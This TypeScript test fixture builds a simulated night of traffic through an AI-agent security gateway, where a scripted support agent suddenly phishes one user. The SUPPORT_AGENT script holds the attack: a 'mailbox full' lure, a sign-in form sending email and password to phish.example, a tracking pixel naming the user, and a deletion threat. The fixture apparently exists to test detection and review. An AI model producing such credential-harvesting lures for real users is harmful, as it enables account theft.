import { readFile, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import { sseFrame } from "@countersign/testkit";
import type { FakePiece, FakeScript } from "@countersign/testkit";
import { vi } from "vitest";
import { createApiKey } from "../access/api-keys.js";
import { idsOf } from "./events.js";
import { startServed } from "./served.js";
import type { Served } from "./served.js";

/** When the attack begins: 03:00 UTC. */
export const ATTACK_TIME = Date.UTC(2026, 10, 18, 3, 0, 10);
/** When the operator looks. */
export const LOOK_TIME = Date.UTC(2026, 10, 18, 3, 20);

const PEOPLE = ["alice", "bob", "carol", "dave"] as const;
const MINUTE = 60_000;

/** A gateway after a night with harmless runs and one attack, whose run is still open. */
export type PhishingNight = {
  readonly served: Served;
  /** The configuration file, for commands. */
  readonly configFile: string;
  stop(): Promise<void>;
};

/**
 * Fills a log as one night does: four people talk every twenty minutes from midnight on, and at 03:00 the agent sends
 * bob a sign-in form, an image of another host and a custom event. The clock of this process stays at 03:20.
 */
export async function startPhishingNight(
  options: { control?: string; consoleDirectory?: string } = {},
): Promise<PhishingNight> {
  vi.useFakeTimers({ toFake: ["Date"], now: ATTACK_TIME - 3 * 60 * MINUTE });
  const starter = createRequire(import.meta.url).resolve(
    "@countersign/policy/policies/starter.yaml",
  );
  const policy = (await readFile(starter, "utf8")).replace(/^mode: observe$/mu, "mode: enforce");
  const keys = new Map(PEOPLE.map((name) => [name, createApiKey()] as const));
  const entries = [...keys].map(([name, { hash }]) => `      ${name}: "${hash}"\n`).join("");
  const access = `access:\n  mode: keys\n  keys:\n    entries:\n${entries}`;
  const served = await startServed(SUPPORT_AGENT, { ...options, policy, config: access });
  const talk = async (name: (typeof PEOPLE)[number], run: string): Promise<Response> =>
    fetch(`${served.running.dataUrl}/agents/support?session=${name}-phone`, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        accept: "text/event-stream",
        authorization: `Bearer ${keys.get(name)?.key ?? ""}`,
      },
      body: JSON.stringify({
        protocolVersion: "1.0",
        threadId: `${name} asks`,
        runId: run,
        messages: [{ id: `q-${run}`, role: "user", content: "Where is my order?" }],
      }),
    });
  try {
    for (let minute = 0; minute < 180; minute += 20) {
      for (const name of PEOPLE) {
        vi.setSystemTime(ATTACK_TIME + (minute - 180) * MINUTE);
        // oxlint-disable-next-line no-await-in-loop -- Each run has its own time.
        await (await talk(name, `order-${name}-${minute}`)).text();
      }
    }
    vi.setSystemTime(ATTACK_TIME);
    const attack = await talk("bob", "mailbox-full");
    await readUntil(attack, "seven days");
    for (const name of ["alice", "carol", "dave"] as const) {
      vi.setSystemTime(ATTACK_TIME + 10 * MINUTE);
      // oxlint-disable-next-line no-await-in-loop -- Each run has its own time.
      await (await talk(name, `order-${name}-190`)).text();
    }
  } catch (error) {
    await served.stop();
    throw error;
  }
  vi.setSystemTime(LOOK_TIME);
  const configFile = join(served.folder, "countersign.yaml");
  await writeFile(
    configFile,
    `agents: { support: { url: "http://127.0.0.1:9" } }\npolicy: policy.yaml\ncontrol: { port: ${new URL(served.running.controlUrl).port} }\n`,
  );
  return {
    served,
    configFile,
    stop: async () => {
      await served.stop();
      vi.useRealTimers();
    },
  };
}

/** Reads a stream until a text is in it; the rest is discarded while the run is open. */
async function readUntil(response: Response, text: string): Promise<void> {
  const reader = response.body?.getReader();
  const decoder = new TextDecoder();
  let seen = "";
  for (;;) {
    // oxlint-disable-next-line no-await-in-loop -- A stream is read in order.
    const piece = await reader?.read();
    if (piece === undefined || piece.done) {
      throw new Error(`the stream ended before ${JSON.stringify(text)}: ${seen.slice(-500)}`);
    }
    seen += decoder.decode(piece.value, { stream: true });
    if (seen.includes(text)) break;
  }
  const discard = async (): Promise<void> => {
    // oxlint-disable-next-line no-await-in-loop -- A stream is read in order.
    while ((await reader?.read().catch(() => undefined))?.done === false);
  };
  void discard();
}

/** Answers harmlessly, except in the run `mailbox-full`, which then stays open. */
const SUPPORT_AGENT: FakeScript = (request) => ({
  pieces: (async function* (): AsyncGenerator<FakePiece> {
    const ids = idsOf(request.body);
    const say = (id: string, ...deltas: string[]): FakePiece[] =>
      [
        { type: "TEXT_MESSAGE_START", messageId: id, role: "assistant" },
        ...deltas.map((delta) => ({ type: "TEXT_MESSAGE_CONTENT", messageId: id, delta })),
        { type: "TEXT_MESSAGE_END", messageId: id },
      ].map(sseFrame);
    yield sseFrame({ type: "RUN_STARTED", ...ids });
    if (ids.runId !== "mailbox-full") {
      yield* say(`m-${ids.runId}`, "Your order ", "is on ", "its way.");
      yield sseFrame({ type: "RUN_FINISHED", ...ids });
      return;
    }
    yield* say("m-1", "Your mailbox is full.");
    yield sseFrame({
      type: "ACTIVITY_SNAPSHOT",
      messageId: "form-1",
      activityType: "sign-in-form",
      content: { fields: ["email", "password"], submit: "https://phish.example/collect" },
    });
    yield* say("m-2", "Sign in: ![logo](https://phish.example/pixel.png?who=bob)");
    yield sseFrame({ type: "CUSTOM", name: "open-sign-in", value: { host: "phish.example" } });
    yield* say("m-3", "Without it, mail is deleted in seven days.");
    await new Promise((resolve) => {
      request.signal.addEventListener("abort", resolve, { once: true });
    });
  })(),
});
